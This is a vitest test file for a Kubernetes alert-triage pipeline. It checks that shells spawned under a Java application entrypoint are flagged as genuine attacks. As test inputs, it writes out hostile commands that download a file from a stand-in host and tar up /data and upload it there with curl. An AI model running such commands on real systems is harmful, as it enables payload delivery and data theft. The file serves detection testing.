/**
 * Red-team traps for workload-baseline's "a child of the container's entrypoint, doing its ordinary work": a web
 * application with a command-injection hole starts `sh -c "…"` under its own entrypoint. Steps that no attack
 * indicator names (a download to disk, a tar piped to an upload) were excused as the workload's ordinary work. A shell
 * script is ordinary work only under an entrypoint that is itself a shell, script interpreter or init wrapper.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { alert, containerIdOf, indexOf, node, owner, pod } from '../../support/cluster.js';

const N = 'ip-10-0-1-10.ec2.internal';
const api = pod('api-5f-abcde', {
  namespace: 'shop',
  node: N,
  ip: '10.1.0.7',
  owner: { kind: 'ReplicaSet', name: 'api-5f' },
  containers: [{ name: 'api', image: 'shop/api:1.2', command: ['java', '-jar', '/app/api.jar'] }],
});
const worker = pod('worker-6c-abcde', {
  namespace: 'shop',
  node: N,
  ip: '10.1.0.8',
  owner: { kind: 'ReplicaSet', name: 'worker-6c' },
  containers: [{ name: 'worker', image: 'shop/worker:1.2', command: ['/bin/sh', '/app/run.sh'] }],
});
const index = indexOf([
  node(N, '10.0.1.10'),
  owner('ReplicaSet', 'api-5f', 'shop', { kind: 'Deployment', name: 'api' }),
  owner('Deployment', 'api', 'shop'),
  api,
  owner('ReplicaSet', 'worker-6c', 'shop', { kind: 'Deployment', name: 'worker' }),
  owner('Deployment', 'worker', 'shop'),
  worker,
]);

function underApi(commandLine: string) {
  return triageAlert(
    alert({
      host: N,
      container: { id: containerIdOf(api) },
      title: 'Shell spawned by Java process',
      process: { name: 'sh', path: '/bin/sh', commandLine },
      ancestors: [{ name: 'java', path: '/usr/bin/java', commandLine: 'java -jar /app/api.jar' }],
      network: { dstIp: '198.51.100.7', dstPort: 80 },
    }),
    { index },
  ).verdict;
}

describe('redteam2 workload-baseline: a shell script started by an application entrypoint', () => {
  it('trap: sh -c wget … -O /var/tmp/a under java -jar stays genuine', () => {
    expect(underApi('sh -c wget -q http://198.51.100.7/a -O /var/tmp/a').label).toBe('genuine');
  });
  it('trap: sh -c "tar czf - /data | curl -T - http://…" under java -jar stays genuine', () => {
    expect(underApi('sh -c tar czf - /data | curl -T - http://198.51.100.7/u').label).toBe('genuine');
  });
  it('still ordinary: a program started by the container’s own shell script entrypoint', () => {
    const v = triageAlert(
      alert({
        host: N,
        container: { id: containerIdOf(worker) },
        title: 'Shell script executed',
        process: { name: 'sh', path: '/bin/sh', commandLine: 'sh -c date >> /tmp/heartbeat' },
        ancestors: [{ name: 'sh', path: '/bin/sh', commandLine: '/bin/sh /app/run.sh' }],
      }),
      { index },
    ).verdict;
    expect(v.label).toBe('likely-false-positive');
  });
});
